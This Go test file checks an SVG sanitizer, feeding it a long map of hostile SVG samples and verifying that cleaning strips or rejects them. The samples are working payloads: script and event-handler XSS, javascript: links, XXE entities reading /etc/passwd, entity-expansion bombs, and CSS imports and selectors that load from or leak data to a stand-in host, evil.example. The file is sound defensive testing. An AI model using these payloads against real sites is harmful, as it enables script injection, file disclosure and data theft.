package svg

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// attacks are drawings that do harm where they are shown as they are, by what they try. In a browser those of script would set window.attacked, and the
// others would ask something of evil.example.
func attacks() map[string]string {
	in := func(inner string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">` + inner + `<rect width="20" height="20"/></svg>`
	}
	const run = "window.attacked=1"
	return map[string]string{
		"script":                    in(`<script>` + run + `</script>`),
		"script in CDATA":           in(`<script><![CDATA[` + run + `]]></script>`),
		"script by href":            in(`<script href="//evil.example/a.js"/>`),
		"script by xlink":           in(`<script xlink:href="data:text/javascript,` + run + `"/>`),
		"script of a type":          in(`<script type="text/ecmascript">` + run + `</script>`),
		"script in capitals":        in(`<SCRIPT>` + run + `</SCRIPT>`),
		"script by a prefix":        in(`<x:script xmlns:x="http://www.w3.org/2000/svg">` + run + `</x:script>`),
		"script of HTML":            in(`<script xmlns="http://www.w3.org/1999/xhtml">` + run + `</script>`),
		"script of HTML by prefix":  in(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">` + run + `</h:script>`),
		"script in defs":            in(`<defs><g><script>` + run + `</script></g></defs>`),
		"script in title":           in(`<title><script>` + run + `</script></title>`),
		"script in desc":            in(`<desc><h:script xmlns:h="http://www.w3.org/1999/xhtml">` + run + `</h:script></desc>`),
		"script in style":           in(`<style><script>` + run + `</script></style>`),
		"script in text":            in(`<text><tspan><script>` + run + `</script></tspan></text>`),
		"text that is markup":       in(`<text>&lt;script>` + run + `&lt;/script></text>`),
		"title that is markup":      in(`<title>&lt;/title>&lt;img src=x onerror=` + run + `></title>`),
		"CDATA that is markup":      in(`<text><![CDATA[</text><script>` + run + `</script>]]></text>`),
		"CDATA that ends style":     in(`<style><![CDATA[</style><script>` + run + `</script>]]></style>`),
		"comment that ends":         in(`<!-- - -><script>` + run + `</script>-->`),
		"onload":                    `<svg xmlns="http://www.w3.org/2000/svg" onload="` + run + `"/>`,
		"onload in capitals":        `<svg xmlns="http://www.w3.org/2000/svg" ONLOAD="` + run + `"/>`,
		"onload of a shape":         in(`<g onload="` + run + `"/>`),
		"onclick":                   in(`<rect onclick="` + run + `"/>`),
		"onfocus":                   in(`<g tabindex="0" autofocus="" onfocus="` + run + `"/>`),
		"onbegin":                   in(`<animate onbegin="` + run + `" attributeName="x" dur="1s"/>`),
		"onend":                     in(`<set onend="` + run + `" attributeName="x" dur="1s"/>`),
		"onmouseover":               in(`<path onmouseover="` + run + `" d="M0 0h20v20z"/>`),
		"handler by a prefix":       in(`<g xmlns:s="http://www.w3.org/2000/svg" s:onload="` + run + `"/>`),
		"handler of xlink":          in(`<g xlink:onload="` + run + `"/>`),
		"ev:listener":               in(`<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#x"/>`),
		"handler element":           in(`<handler type="application/ecmascript">` + run + `</handler>`),
		"entity in a handler":       in(`<g on&#108;oad="` + run + `"/>`),
		"link with javascript":      in(`<a href="javascript:` + run + `"><rect width="9" height="9"/></a>`),
		"xlink with javascript":     in(`<a xlink:href="javascript:` + run + `"><text>x</text></a>`),
		"javascript in capitals":    in(`<a xlink:href="JaVaScRiPt:` + run + `"><text>x</text></a>`),
		"javascript by entities":    in(`<a href="&#106;avascript&#58;` + run + `"><text>x</text></a>`),
		"javascript with a tab":     in(`<a href="java&#9;script:` + run + `"><text>x</text></a>`),
		"use of javascript":         in(`<use href="javascript:` + run + `"/>`),
		"use of data":               in(`<use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5hdHRhY2tlZD0xIi8+#x"/>`),
		"use of elsewhere":          in(`<use href="http://evil.example/a.svg#x"/>`),
		"use of a neighbour":        in(`<use href="other.svg#x"/>`),
		"use by two hrefs":          in(`<use href="#a" xlink:href="http://evil.example/a.svg#x"/>`),
		"animate a link":            in(`<a href="#"><animate attributeName="href" values="javascript:` + run + `"/><text>x</text></a>`),
		"set a link":                in(`<a id="x"><set attributeName="xlink:href" to="javascript:` + run + `"/><text>x</text></a>`),
		"set a handler":             in(`<set attributeName="onmouseover" to="` + run + `"/>`),
		"animate from elsewhere":    in(`<animate xlink:href="#x" attributeName="href" from="javascript:` + run + `" to="#"/>`),
		"animateMotion":             in(`<animateMotion path="M0 0"><mpath href="http://evil.example/a.svg#x"/></animateMotion>`),
		"animateTransform":          in(`<animateTransform attributeName="transform" onbegin="` + run + `"/>`),
		"discard":                   in(`<discard begin="0s" onbegin="` + run + `"/>`),
		"foreignObject":             in(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="` + run + `"/></body></foreignObject>`),
		"foreignObject, small":      in(`<foreignobject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:` + run + `"/></foreignobject>`),
		"foreignObject by prefix":   in(`<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"><i xmlns="http://www.w3.org/1999/xhtml"/></s:foreignObject>`),
		"iframe":                    in(`<iframe src="//evil.example/"/>`),
		"HTML image":                in(`<img xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/x.png" onerror="` + run + `"/>`),
		"image from elsewhere":      in(`<image href="http://evil.example/x.png" width="9" height="9"/>`),
		"image by xlink":            in(`<image xlink:href="//evil.example/x.png" width="9" height="9"/>`),
		"image of data":             in(`<image href="data:image/svg+xml,%3Csvg onload='` + run + `'/%3E"/>`),
		"feImage":                   in(`<filter id="f"><feImage href="http://evil.example/x.png"/></filter><g filter="url(#f)"/>`),
		"audio":                     in(`<audio xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/x"/>`),
		"video":                     in(`<video href="//evil.example/x"/>`),
		"fill from elsewhere":       in(`<rect fill="url(http://evil.example/a.svg#x)"/>`),
		"fill, quoted":              in(`<rect fill="url('//evil.example/a.svg#x')"/>`),
		"fill in capitals":          in(`<rect fill="URL(//evil.example/a.svg#x)"/>`),
		"fill by an escape":         in(`<rect fill="\75rl(//evil.example/a.svg#x)"/>`),
		"fill that ends escaped":    in(`<rect fill="red\"/>`),
		"function by an escape":     in(`<rect transform="\74 translate(9)"/>`),
		"fill with a comment":       in(`<rect fill="u/**/rl(//evil.example/a.svg#x)"/>`),
		"fill by src":               in(`<rect fill="src(&quot;//evil.example/a.svg#x&quot;)"/>`),
		"fill by image-set":         in(`<rect fill="image-set('//evil.example/a.png' 1x)"/>`),
		"fill after a reference":    in(`<rect fill="url(#a) url(//evil.example/a.svg#x)"/>`),
		"filter from elsewhere":     in(`<rect filter="url(//evil.example/f.svg#x)"/>`),
		"mask from elsewhere":       in(`<rect mask="url(//evil.example/f.svg#x)"/>`),
		"clip path from elsewhere":  in(`<rect clip-path="url(//evil.example/f.svg#x)"/>`),
		"marker from elsewhere":     in(`<path d="M0 0h9" marker-end="url(//evil.example/f.svg#x)"/>`),
		"cursor":                    in(`<rect cursor="url(//evil.example/c.cur),auto"/>`),
		"style with url":            in(`<rect style="fill:url(//evil.example/a.svg#x)"/>`),
		"style with background":     in(`<rect style="background:url(//evil.example/a.png)"/>`),
		"style with an escape":      in(`<rect style="fill:u\72l(//evil.example/a.svg#x)"/>`),
		"style with a comment":      in(`<rect style="fill:ur/**/l(//evil.example/a.svg#x)"/>`),
		"style with expression":     in(`<rect style="width:expression(` + run + `)"/>`),
		"style with a binding":      in(`<rect style="-moz-binding:url(//evil.example/x.xml#a)"/>`),
		"style with behavior":       in(`<rect style="behavior:url(//evil.example/x.htc)"/>`),
		"style that covers":         in(`<rect style="position:fixed;inset:0;z-index:9"/>`),
		"style ends an attribute":   in(`<rect style="fill:red&quot; onload=&quot;` + run + `"/>`),
		"import":                    in(`<style>@import url(//evil.example/a.css);</style>`),
		"import, quoted":            in(`<style>@import "//evil.example/a.css";rect{fill:red}</style>`),
		"import by an escape":       in(`<style>@\69mport "//evil.example/a.css";</style>`),
		"import in a comment":       in(`<style>/* */@import/**/"//evil.example/a.css";</style>`),
		"import, no end":            in(`<style>@import "//evil.example/a.css"</style>`),
		"font-face":                 in(`<style>@font-face{font-family:x;src:url(//evil.example/a.woff)}</style><text font-family="x">a</text>`),
		"media":                     in(`<style>@media all{rect{fill:url(//evil.example/a.svg#x)}}</style>`),
		"rule with url":             in(`<style>rect{fill:url(//evil.example/a.svg#x)}</style>`),
		"rule for the page":         in(`<style>body,*{display:none}</style>`),
		"rule that reads":           in(`<style>input[value^=a]{background:url(//evil.example/a)}</style>`),
		"rule in an entity":         in(`<style>&lt;/style>&lt;script>` + run + `&lt;/script></style>`),
		"style sheet":               `<?xml-stylesheet href="//evil.example/a.css"?>` + in(""),
		"XSLT":                      `<?xml-stylesheet type="text/xsl" href="//evil.example/a.xsl"?>` + in(""),
		"processing within":         in(`<?php system(1) ?>`),
		"link to a style":           in(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example/a.css"/>`),
		"XInclude":                  in(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`),
		"xml:base":                  `<svg xmlns="http://www.w3.org/2000/svg" xml:base="http://evil.example/"><use href="#x"/></svg>`,
		"base":                      in(`<base xmlns="http://www.w3.org/1999/xhtml" href="//evil.example/"/>`),
		"meta":                      in(`<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//evil.example/"/>`),
		"form":                      in(`<form xmlns="http://www.w3.org/1999/xhtml" action="//evil.example/"><input name="a"/></form>`),
		"external entity":           `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
		"entity with markup":        `<!DOCTYPE svg [<!ENTITY x "<script>` + run + `</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`,
		"parameter entity":          `<!DOCTYPE svg [<!ENTITY % x SYSTEM "//evil.example/a.dtd"> %x;]><svg xmlns="http://www.w3.org/2000/svg"/>`,
		"default attribute":         `<!DOCTYPE svg [<!ATTLIST rect onload CDATA "` + run + `">]><svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>`,
		"external DTD":              `<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg xmlns="http://www.w3.org/2000/svg"><text>a</text></svg>`,
		"billion laughs":            `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`,
		"uses of uses":              in(laughs(30)),
		"use of itself":             in(`<g id="a"><use href="#a"/></g>`),
		"patterns of themselves":    in(`<pattern id="a"><rect fill="url(#b)"/></pattern><pattern id="b"><rect fill="url(#a)"/></pattern>`),
		"nesting":                   in(strings.Repeat("<g>", 5000) + strings.Repeat("</g>", 5000)),
		"many elements":             in(strings.Repeat("<g/>", 30_000)),
		"many elements left out":    in(strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000)),
		"an id of the page":         in(`<g id="main"/><g id="location"/><use href="#main"/>`),
		"a class of the page":       in(`<g class="skip cell"/>`),
		"an id with a quote":        in(`<g id="a&quot; onload=&quot;` + run + `"/>`),
		"label with a quote":        in(`<g aria-label="a&quot; onload=&quot;` + run + `"/>`),
		"characters that reorder":   in("<text>\u202ea\u2066</text>"),
		"root of HTML":              `<html xmlns="http://www.w3.org/1999/xhtml"><script>` + run + `</script></html>`,
		"root that only looks so":   `<svg xmlns="http://www.w3.org/1999/xhtml"><script>` + run + `</script></svg>`,
		"HTML before":               `<script>` + run + `</script><svg xmlns="http://www.w3.org/2000/svg"/>`,
		"HTML after":                `<svg xmlns="http://www.w3.org/2000/svg"/><script>` + run + `</script>`,
		"text before":               `alert(1)<svg xmlns="http://www.w3.org/2000/svg"/>`,
		"no end":                    `<svg xmlns="http://www.w3.org/2000/svg"><g>`,
		"ends that cross":           in(`<g><text></g></text>`),
		"other encoding":            `<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg">+ADw-script+AD4-</svg>`,
		"no text at all":            "\x00\xff\xfe",
		"attribute without quotes":  `<svg xmlns="http://www.w3.org/2000/svg" onload=` + run + `/>`,
		"slash for a space":         `<svg/onload=` + run + `>`,
		"two attributes of a name":  in(`<use href="#a" href="//evil.example/a.svg#a"/>`),
		"data attribute":            in(`<g data-program="evil/cell"/>`),
		"breaking out of an inline": in(`<p xmlns="http://www.w3.org/1999/xhtml"><style><img src="</style><img src=x onerror=` + run + `//"></style></p>`),
		"mglyph":                    in(`<desc><math xmlns="http://www.w3.org/1998/Math/MathML"><mglyph><style></style></mglyph></math></desc>`),
	}
}

// laughs are elements each of which uses the one before twice.
func laughs(n int) string {
	var b strings.Builder
	b.WriteString(`<g id="l0"><rect/></g>`)
	for i := range n {
		fmt.Fprintf(&b, `<g id="l%d"><use href="#l%d"/><use href="#l%d"/></g>`, i+1, i, i)
	}
	return b.String()
}

var (
	url  = regexp.MustCompile(`(?i)(url|src|image|image-set|element|expression|attr)\s*\(`)
	ours = regexp.MustCompile(`^url\(#x-[A-Za-z0-9_:.-]+\)( none| [A-Za-z]+| #[0-9A-Fa-f]+)?$`)
)

// wrong returns what is in a cleaned drawing that should not be. It does not ask the lists of the package, but for the names.
func wrong(out []byte) (all []string) {
	d := xml.NewDecoder(bytes.NewReader(out))
	depth, ids := 0, make(map[string]bool)
	for {
		token, err := d.RawToken()
		if errors.Is(err, io.EOF) {
			return all
		}
		if err != nil {
			return append(all, err.Error())
		}
		switch token := token.(type) {
		case xml.StartElement:
			if depth++; token.Name.Space != "" || depth == 1 && token.Name.Local != "svg" || !elements[token.Name.Local] ||
				regexp.MustCompile(`(?i)script|foreign|image|animat|^set$|handler|style|^a$`).MatchString(token.Name.Local) {
				all = append(all, "the element "+token.Name.Local)
			}
			for _, a := range token.Attr {
				name := a.Name.Local
				if a.Name.Space != "" && (a.Name.Space != "xml" || name != "space") ||
					strings.HasPrefix(strings.ToLower(name), "on") || slices.Contains([]string{"style", "src", "to", "from", "attributeName", "tabindex", "base"}, name) {
					all = append(all, "the attribute "+name)
				}
				switch {
				case name == "href" && !strings.HasPrefix(a.Value, "#x-"), name == "class" && !strings.HasPrefix(a.Value, "svg-"):
					all = append(all, name+"="+a.Value)
				case name == "id":
					if !strings.HasPrefix(a.Value, "x-") || ids[a.Value] {
						all = append(all, "the id "+a.Value)
					}
					ids[a.Value] = true
				case name == "aria-label", name == "xmlns" && a.Value == namespace && depth == 1:
				case url.MatchString(a.Value) && !ours.MatchString(a.Value), strings.ContainsAny(a.Value, `\@`), strings.Contains(a.Value, "//"), strings.Contains(a.Value, "/*"):
					all = append(all, name+"="+a.Value)
				}
			}
		case xml.EndElement:
			depth--
		case xml.CharData:
			if bytes.ContainsAny(token, "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\x00\x1b") {
				all = append(all, "text that reorders")
			}
		default:
			all = append(all, fmt.Sprintf("%T", token))
		}
	}
}

func TestNoAttackIsLeftInADrawing(t *testing.T) {
	refused := strings.Split("root of HTML,root that only looks so,HTML before,HTML after,no end,ends that cross,other encoding,no text at all,attribute without quotes,slash for a space,"+
		"external entity,entity with markup,parameter entity,default attribute,billion laughs,uses of uses,use of itself,patterns of themselves,nesting,many elements,"+
		"breaking out of an inline,entity in a handler", ",")
	for name, source := range attacks() {
		d, err := Clean([]byte(source), "x-")
		if slices.Contains(refused, name) != (err != nil) {
			t.Errorf("%s: %v", name, err)
		}
		for _, w := range wrong(d.SVG) {
			t.Errorf("%s: leaves %s in %s", name, w, d.SVG)
		}
		if err == nil && !bytes.Contains(d.SVG, []byte(`height="20"`)) && strings.Contains(source, `<rect width="20"`) {
			t.Errorf("%s: takes the rest away: %s", name, d.SVG)
		}
	}
}

// FuzzACleanDrawingIsClean: what comes out holds nothing that is not allowed, and stays as it is when it is cleaned again.
func FuzzACleanDrawingIsClean(f *testing.F) {
	for _, source := range attacks() {
		if len(source) < 4<<10 {
			f.Add(source)
		}
	}
	f.Add(`<svg xmlns="http://www.w3.org/2000/svg"><style>.a rect, #b{fill:var(--c, red);stroke:url( '#g' ) #fff}</style><g id="b" class="a svg-a"><rect id="x-g" style="fill: rgb(1,2,3)!important"/></g></svg>`)
	f.Fuzz(func(t *testing.T, source string) {
		once, err := Clean([]byte(source), "x-")
		if err != nil {
			return
		}
		for _, w := range wrong(once.SVG) {
			t.Errorf("%q leaves %s in %s", source, w, once.SVG)
		}
		twice, err := Clean(once.SVG, "x-")
		if err != nil || !bytes.Equal(once.SVG, twice.SVG) || len(twice.Dropped) > 0 {
			t.Errorf("%q\nonce  %s\ntwice %s\n%v %v", source, once.SVG, twice.SVG, twice.Dropped, err)
		}
	})
}
